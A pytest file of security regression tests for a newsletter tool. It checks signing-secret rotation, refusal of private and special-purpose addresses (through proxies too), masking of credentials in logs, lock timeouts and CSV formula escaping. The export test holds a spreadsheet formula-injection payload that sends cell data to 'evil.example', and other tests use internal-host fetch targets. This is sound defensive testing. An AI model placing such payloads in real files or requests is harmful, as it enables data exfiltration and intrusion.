"""The security review's findings (issue 24, and issue 23's change of secret): each test is the
attack or the mistake that worked before, against real parts (a project on disk, the web app,
real servers on loopback). The sign-up form's and the desk's are in test_security_web.py.
docs/security.md says what is defended and how."""

from __future__ import annotations

import base64
import csv
import http.client
import http.server
import io
import logging
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from ipaddress import ip_network
from pathlib import Path
from urllib.parse import unquote

import pytest
from test_signup import configured
from test_web import local, make_issue, message_to, one_click_url, send
from typer.testing import CliRunner
from web_support import SECRET, web_client

from digest.cli import app
from digest.errors import DigestError
from digest.exports import cell
from digest.models import Subscriber
from digest.project import Project, init_project, open_project
from digest.sources.errors import ParseError
from digest.sources.fetch import fetch, non_public_reason, use_proxy
from digest.tokens import MIN_SECRET_BYTES, load_secret, make_legacy_token, make_token

NEW_SECRET = "a-new-secret-of-at-least-thirty-two-bytes"
OTHER_SECRET = "another-secret-of-at-least-thirty-two-bytes"


def _cli(root: Path, *args: str) -> object:
    return CliRunner().invoke(app, ["--project", str(root), *args])


# -- 1. secrets: a change never silently breaks links already sent ------------------------------


@pytest.fixture
def file_secret_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """A project that began as `digest init` leaves it: the automatic `.digest/secret`."""
    monkeypatch.delenv("DIGEST_SECRET", raising=False)
    monkeypatch.delenv("DIGEST_SECRET_PREVIOUS", raising=False)
    return init_project(tmp_path / "news")


def test_switching_to_digest_secret_keeps_the_links_already_sent(
    file_secret_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = file_secret_project
    send(project, make_issue(project, "w1", "Week one"))
    assert len((project.state_dir / "secret").read_bytes()) >= MIN_SECRET_BYTES
    old_link = local(one_click_url(message_to(project, "linus@example.net", "Week one")))
    project.close()
    # the deploy docs say: set DIGEST_SECRET. The file's secret keeps verifying.
    monkeypatch.setenv("DIGEST_SECRET", NEW_SECRET)
    switched = open_project(project.root)
    response = web_client(switched).post(old_link, data={"List-Unsubscribe": "One-Click"})
    assert response.status_code == 200, response.text
    switched.close()


def test_a_secret_changed_without_keeping_the_old_one_stops_digest_until_the_operator_chooses(
    file_secret_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = file_secret_project
    monkeypatch.setenv("DIGEST_SECRET", NEW_SECRET)
    send(project, make_issue(project, "w1", "Week one"))
    old_link = local(one_click_url(message_to(project, "linus@example.net", "Week one")))
    project.close()
    monkeypatch.setenv("DIGEST_SECRET", OTHER_SECRET)  # NEW_SECRET is nowhere now
    result = _cli(project.root, "send", "1")
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    stderr = result.stderr  # type: ignore[attr-defined]
    assert "the signing secret changed" in stderr and "DIGEST_SECRET_PREVIOUS" in stderr
    assert NEW_SECRET not in stderr and OTHER_SECRET not in stderr
    changed = open_project(project.root)
    with pytest.raises(DigestError, match="the signing secret changed"):  # `digest serve`
        web_client(changed)
    changed.close()
    # choice one: keep the old secret as a verifier, and the old link works
    monkeypatch.setenv("DIGEST_SECRET_PREVIOUS", NEW_SECRET)
    kept = open_project(project.root)
    assert web_client(kept).get(old_link).status_code == 200
    kept.close()
    # choice two: retire it, knowing its links stop working
    monkeypatch.delenv("DIGEST_SECRET_PREVIOUS")
    status = _cli(project.root, "secret", "status")
    fingerprint = next(
        line.split()[0]
        for line in status.stdout.splitlines()
        if "no longer held" in line  # type: ignore[attr-defined]
    )
    assert _cli(project.root, "secret", "retire", fingerprint).exit_code == 0  # type: ignore[attr-defined]
    retired = open_project(project.root)
    assert web_client(retired).get(old_link).status_code == 400
    retired.close()


def test_an_empty_digest_secret_does_not_fall_back_to_the_file(
    file_secret_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = file_secret_project
    monkeypatch.setenv("DIGEST_SECRET", "")
    empty = open_project(project.root)
    with pytest.raises(DigestError, match="DIGEST_SECRET is set but empty"):  # `digest serve`
        web_client(empty)
    empty.close()


def test_a_signing_secret_needs_32_bytes_and_a_shorter_one_can_still_verify(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    short = "sixteen-or-more-but-short"  # what the old 16-byte rule let through
    with pytest.raises(DigestError, match="at least 32 bytes.*DIGEST_SECRET_PREVIOUS") as caught:
        load_secret(tmp_path, short)
    assert short not in str(caught.value)
    monkeypatch.setenv("DIGEST_SECRET", short)
    monkeypatch.delenv("DIGEST_SECRET_PREVIOUS", raising=False)
    project = init_project(tmp_path / "news")
    (project.root / "outbox").mkdir(exist_ok=True)
    assert _cli(project.root, "send", "1").exit_code == 2  # type: ignore[attr-defined]
    # signed before the rule (as the old digest did): the message the operator keeps working
    old_token = make_token(short.encode(), "linus@example.net", "default")
    monkeypatch.setenv("DIGEST_SECRET", NEW_SECRET)
    monkeypatch.setenv("DIGEST_SECRET_PREVIOUS", short)
    moved = open_project(project.root)
    assert web_client(moved).get(f"/unsubscribe?token={old_token}").status_code == 200
    moved.close()
    project.close()


# -- 5. the complete special-purpose registries --------------------------------------------------


@pytest.mark.parametrize(
    "address",
    [
        "192.0.0.9",
        "192.0.0.10",
        "192.88.99.1",
        "fec0::1",
        "3fff::1",
        "5f00::1",
        "64:ff9b:1::1",
        "100.64.0.1",
        "198.18.0.1",
        "2001:db8::1",
        "::ffff:192.0.0.9",
    ],
)
def test_special_purpose_addresses_are_not_public(address: str) -> None:
    assert non_public_reason(address) is not None


@pytest.mark.parametrize("address", ["93.184.215.14", "2606:4700::1111", "192.0.3.1"])
def test_public_addresses_stay_public(address: str) -> None:
    assert non_public_reason(address) is None


# -- 6. proxies do not get around the address checks ---------------------------------------------


class _Proxy(http.server.BaseHTTPRequestHandler):
    """A forward proxy's answer, without forwarding: it records each request line and answers
    it (a redirect to loopback for /redirect)."""

    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.seen.append(self.path)
        if self.path.endswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.1:9/internal")
            self.end_headers()
            return
        body = b"proxied page"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def loopback_proxy() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Proxy)
    _Proxy.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    use_proxy("")


def test_proxy_variables_in_the_environment_are_ignored(
    loopback_proxy: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "all_proxy"):
        monkeypatch.setenv(name, loopback_proxy)
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    # loopback allowed (where the proxy listens), the private target not
    loopback = [ip_network("127.0.0.1/32")]
    with pytest.raises(ParseError, match="10.1.2.3 is a private address"):
        fetch("http://10.1.2.3/admin", timeout=5, max_bytes=10_000, allow_private=loopback)
    assert _Proxy.seen == []


def test_a_configured_proxy_is_used_and_private_targets_are_still_refused(
    project: Project, loopback_proxy: str
) -> None:
    proxied = configured(project, ('# proxy = ""', f'proxy = "{loopback_proxy}"'))
    fetched = fetch("http://93.184.215.14/page", timeout=5, max_bytes=10_000)
    assert fetched.data == b"proxied page" and _Proxy.seen == ["http://93.184.215.14/page"]
    for target in ("http://10.1.2.3/admin", "http://[fec0::1]/", "http://93.184.215.14/redirect"):
        with pytest.raises(ParseError, match="refused to fetch"):
            fetch(target, timeout=5, max_bytes=10_000)
    assert _Proxy.seen == ["http://93.184.215.14/page", "http://93.184.215.14/redirect"]
    proxied.close()


# -- 7. no credential in a message or a log line -------------------------------------------------


def test_a_database_password_never_reaches_the_terminal(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a password holding a '/': the URL parser reads its first part as the port, and said so
    monkeypatch.setenv("DIGEST_DATABASE_URL", "postgresql://digest:s3cr/et-pw@127.0.0.1:5432/db")
    result = _cli(project.root, "store", "migrate")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert "s3cr" not in result.output and "et-pw" not in result.output  # type: ignore[attr-defined]
    # a password from the environment, quoted back by whatever failed, is masked
    monkeypatch.setenv("DIGEST_DATABASE_URL", "postgresql://digest@127.0.0.1:1/db")
    monkeypatch.setenv("DIGEST_DATABASE_PASSWORD", "hunter2-database-password")
    result = _cli(project.root, "store", "migrate")
    assert result.exit_code in (1, 2)  # type: ignore[attr-defined]
    assert "cannot open the state store" in result.output  # type: ignore[attr-defined]
    assert "hunter2" not in result.output  # type: ignore[attr-defined]


def test_log_lines_carry_no_credentials(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from digest.redact import install

    monkeypatch.setenv("DIGEST_SMTP_PASSWORD", "relay-password-123")
    install()
    log = logging.getLogger("digest.test")
    with caplog.at_level(logging.WARNING):
        log.warning("store failed: %s", "connection to postgresql://u:pg-pass@db/x failed")
        log.warning("libpq: host=db password=conninfo-pass dbname=x")
        try:
            raise OSError("login with relay-password-123 refused")
        except OSError:
            log.exception("the relay said no")
    for secret in ("pg-pass", "conninfo-pass", "relay-password-123"):
        assert secret not in caplog.text, secret
    assert "postgresql://u:***@db/x" in caplog.text


# -- 8. a co-tenant on PostgreSQL cannot hang every command -------------------------------------


def _digest(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`python -m digest` as cron runs it; a hang fails the test instead of stalling it."""
    return subprocess.run(
        [sys.executable, "-m", "digest", "--project", str(root), *args],
        capture_output=True,
        text=True,
        timeout=90,
        env=dict(os.environ),
    )


def test_a_lock_held_by_another_session_fails_the_command_after_the_timeout(
    tmp_path: Path, postgres_url: str
) -> None:
    import psycopg
    from postgres_support import PASSWORD

    project = init_project(tmp_path / "news")
    config = project.config.path
    config.write_text(
        config.read_text()
        .replace('url = ""', f'url = "{postgres_url}"')
        .replace("# lock_timeout = 30", "lock_timeout = 1")
    )
    project.close()
    assert _digest(project.root, "store", "migrate").returncode == 0
    with psycopg.connect(postgres_url, password=PASSWORD) as other:  # another role's session
        other.execute("LOCK TABLE subscribers IN ACCESS EXCLUSIVE MODE")  # held: no commit
        done = _digest(project.root, "subscribers", "count")
        assert done.returncode == 1, done.stderr
        assert "waited 1 s for a lock held by another session" in done.stderr
        assert "Traceback" not in done.stderr
        other.rollback()
        other.execute("SELECT pg_advisory_lock(1684629349)")  # the migration lock, "dige"
        migrating = _digest(project.root, "store", "migrate")
        assert migrating.returncode == 1
        assert "waited 1 s for a lock held by another session" in migrating.stderr
    assert _digest(project.root, "subscribers", "count").returncode == 0


# -- 9. CSV exports open as text, and only for their owner ---------------------------------------


def test_an_export_escapes_formulas_and_is_written_owner_only(project: Project) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    project.store.subscribe(Subscriber("ada@example.net", hostile, "example"), origin="web")
    project.store.subscribe(Subscriber("bo@example.net", "@SUM(1+1)", "example"), origin="web")
    target = project.root / "export.csv"
    target.write_text("old\n")
    target.chmod(0o644)
    result = _cli(project.root, "subscribers", "export", "-o", str(target))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(target.read_text()))}
    assert rows["ada@example.net"]["name"] == "'" + hostile
    assert rows["bo@example.net"]["name"] == "'@SUM(1+1)"
    # stdout too: a redirect into a file is an export
    printed = _cli(project.root, "subscribers", "export")
    assert "'=HYPERLINK" in printed.stdout  # type: ignore[attr-defined]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell("Ada = 1") == "Ada = 1"


# -- 12. an unsubscribe link tells nobody whose it is -------------------------------------------


def test_a_link_does_not_reveal_its_reader_and_links_already_sent_still_work(
    project: Project,
) -> None:
    send(project, make_issue(project, "w1", "Week one"))
    message = message_to(project, "linus@example.net", "Week one")
    link = one_click_url(message)
    token = unquote(link.split("token=", 1)[1])
    # neither the token nor anything it decodes to names the address
    decoded = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))
    for seen in (token, link, decoded.decode("latin-1")):
        assert "linus" not in seen.lower()
    client = web_client(project)
    page = client.get(local(link))
    assert page.status_code == 200 and "linus@example.net" in page.text  # to its own reader
    # a link in a message sent before (the readable, signed kind) keeps working
    old = make_legacy_token(SECRET.encode(), "ada@example.org", "example")
    assert (
        client.post(
            "/unsubscribe", params={"token": old}, data={"List-Unsubscribe": "One-Click"}
        ).status_code
        == 200
    )
    assert project.store.suppression_reason("ada@example.org") == "unsubscribed"
